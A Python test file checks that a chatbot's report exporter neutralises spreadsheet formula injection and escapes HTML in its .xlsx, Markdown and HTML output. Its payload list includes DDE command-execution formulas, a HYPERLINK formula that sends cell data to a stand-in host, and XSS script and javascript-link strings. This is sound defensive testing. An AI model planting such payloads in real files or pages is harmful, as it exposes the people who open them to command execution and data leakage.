"""Exported reports never carry live formulas or raw HTML (issue 12, findings 5 and 10).

A resident's unanswered question ``=cmd|' /C calc'!A0`` and an officer-typed row (an
activity's name) go through the real report pipeline into the .xlsx and the Markdown.
"""

from __future__ import annotations

import io
import re
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.config import Settings
from bot.reports.document import Table
from bot.reports.model import build_report
from bot.reports.output import render
from bot.reports.periods import parse_quarter
from bot.reports.xlsx_render import neutral_text
from bot.store import Store
from bot.store.faq import record_unanswered

NOW = datetime(2027, 1, 3, 9, 0, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
ASKED = datetime(2026, 11, 20, 3, 0, tzinfo=ZoneInfo("UTC"))
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")',
]
SCRIPT = "<script>alert('xss')</script> hỏi [link](javascript:alert(1)) | cột"


@pytest.fixture
def report_with_payloads(store: Store, settings: Settings) -> object:
    for text in [*PAYLOADS, SCRIPT]:
        record_unanswered(store, text, at=ASKED)
    report = build_report(store, settings, parse_quarter("2026-Q4"), now=NOW)
    # An officer-typed name in a table (e.g. an activity recorded under that name).
    report.sections[0].tables.append(
        Table("x_hoat_dong", "Hoạt động", ["Tên hoạt động", "Số lượng"], [["=cmd|' /C calc'!A0", 3]])
    )
    return report


def _cells(data: bytes) -> list[object]:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_no_cell_of_the_exported_workbook_is_a_formula(report_with_payloads: object) -> None:
    cells = _cells(render(report_with_payloads, "xlsx"))  # type: ignore[arg-type]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'=cmd|' /C calc'!A0" in texts  # the activity name, neutralised
    for payload in PAYLOADS:
        stored = payload.strip()  # the FAQ store trims what it keeps
        assert neutral_text(stored) in texts, payload
        assert stored not in texts
    # Numbers stay numbers.
    assert any(isinstance(c.value, int) and c.value == 3 for c in cells)


def test_neutral_text_leaves_ordinary_text_alone() -> None:
    assert neutral_text("Khám sức khỏe ở đâu?") == "Khám sức khỏe ở đâu?"
    assert neutral_text("5 - 10 người") == "5 - 10 người"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutral_text(start + "x") == "'" + start + "x"


def test_markdown_report_escapes_residents_html(report_with_payloads: object) -> None:
    md = render(report_with_payloads, "md").decode()  # type: ignore[arg-type]
    assert "<script>" not in md and "</script>" not in md
    assert "&lt;script&gt;" in md
    assert "[link](javascript:" not in md and "[link]\\(javascript:" in md  # no live link
    # The question stays one table row: its pipe is escaped, the row has two cells.
    row = next(line for line in md.splitlines() if "&lt;script&gt;" in line)
    assert len(re.findall(r"(?<!\\)\|", row)) == 3 and "\\| cột" in row
    html = render(report_with_payloads, "html").decode()  # type: ignore[arg-type]
    assert "<script>alert" not in html
